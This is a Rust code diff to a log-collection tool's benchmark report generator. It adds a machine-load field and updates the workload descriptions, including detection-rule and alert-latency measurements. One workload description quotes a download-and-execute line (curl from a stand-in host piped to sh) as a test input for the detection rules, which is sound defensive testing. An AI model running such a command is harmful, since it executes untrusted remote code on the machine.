@@ -59,6 +59,8 @@ pub struct Report {
     pub date: String,
     pub mode: &'static str,
     pub machine: String,
+    /// Load of the machine around the run (it is shared).
+    pub load: String,
     pub commit: String,
     pub rows: Vec<Row>,
 }
@@ -77,10 +79,10 @@ impl Report {
     /// The Markdown table.
     pub fn markdown(&self) -> String {
         let mut s = format!(
-            "## Run of {} ({} mode)\n\nMachine: {}. Commit: `{}`.\n\n\
+            "## Run of {} ({} mode)\n\nMachine: {}. Commit: `{}`. The machine is shared: {}.\n\n\
              | workload | what | value | baseline (same run) | ratio | target | note |\n\
              | --- | --- | --- | --- | --- | --- | --- |\n",
-            self.date, self.mode, self.machine, self.commit
+            self.date, self.mode, self.machine, self.commit, self.load
         );
         for r in &self.rows {
             let (base, ratio) = match &r.baseline {
@@ -131,20 +133,29 @@ pub fn document(report: &Report) -> String {
          | W1 | the collector tails Docker json-file logs (seeded mix of sshd, sudo, cron, dockerd, \
          audit, nginx, JSON app logs, stack traces; ~100 B–2 KiB with a few 20–100 KiB lines that \
          Docker splits) and ships them to a gRPC sink that acks at once | plain read + JSON decode \
-         of the same bytes with the collector's decoder (the decode limit) |\n\
-         | W2 | server ingest: events over gRPC in batches of 1,000, window 16, indexed and acked | \
-         raw tantivy indexing of the same documents with the same schema, one commit |\n\
-         | W3 | searches over the W2 events through the HTTP API | the same query strings parsed \
-         and run by tantivy in-process over the same index files |\n\
+         of the same bytes with the collector's decoder (the decode limit); and the Debian peer, \
+         rsyslog (`imfile` → `omfwd` TCP, raw lines, no JSON decode) over the same files to a \
+         loopback sink that counts lines |\n\
+         | W2 | server ingest: events over gRPC in batches of 1,000, window 16, indexed and acked; \
+         once with `[rules] builtin = false`, once with the built-in pack live (the default) | \
+         raw tantivy indexing of the same documents with the same schema, one commit; and rules \
+         off against rules on |\n\
+         | W3 | searches over the W2 events (rules-on server) through the HTTP API, and a terms \
+         aggregation on container.name and a date histogram over everything through \
+         `/api/v1/aggregate` | the same query strings and the same tantivy aggregation requests \
+         run in-process over the same index files |\n\
          | W4 | the Sigma engine over the generated lines (one core, in-process) at 10, 100 and \
          1,000 rules, single-event and with an event_count correlation on every tenth rule | \
          a naive evaluation running every rule's regular expression on every event |\n\
-         | W5 | a line appended to a Docker log until it is searchable through the API, with a \
+         | W5 | a line appended to a Docker log until it is searchable through the API; and an \
+         attack line (`+ curl -fsSL http://203.0.113.x/… \\| sh`) until the built-in pack's alert \
+         reaches a webhook receiver in the harness (channel with group_wait 0s, realert 0s, \
+         group_interval 1ms, as the rule's detections share one alert and one group), with a \
          background load | — |\n\
          | W6 | the collector's CPU and RSS with 50 idle containers, and at 10k lines/s | — |\n\n\
-         Not measured yet: the rsyslog/syslog-ng peer for W1, rules on/off in W2 (rules do not \
-         run in the server yet), aggregations in W3, and event→alert latency in W5; they arrive with the features they \
-         measure.\n\n\
+         The W1 peer needs rsyslog (`scripts/setup-bench-deps.sh` installs it); without it the \
+         row says so. The machine is shared with other work, so each run records the load \
+         average around it; compare ratios rather than absolute figures.\n\n\
          The rules engine also has criterion micro-benchmarks (`cargo bench -p logward-rules`): \
          on rules whose literals the prefilter can use, 10 / 100 / 1,000 rules ran at about \
          3.3 M / 3.7 M / 2.8 M events/s on one core (2026-11-27), and a correlation key costs \
@@ -168,6 +179,7 @@ mod tests {
             date: "d".into(),
             mode: "quick",
             machine: "m".into(),
+            load: "l".into(),
             commit: "c".into(),
             rows: vec![
                 Row::new("W2", "ingest", 50.0, "events/s")
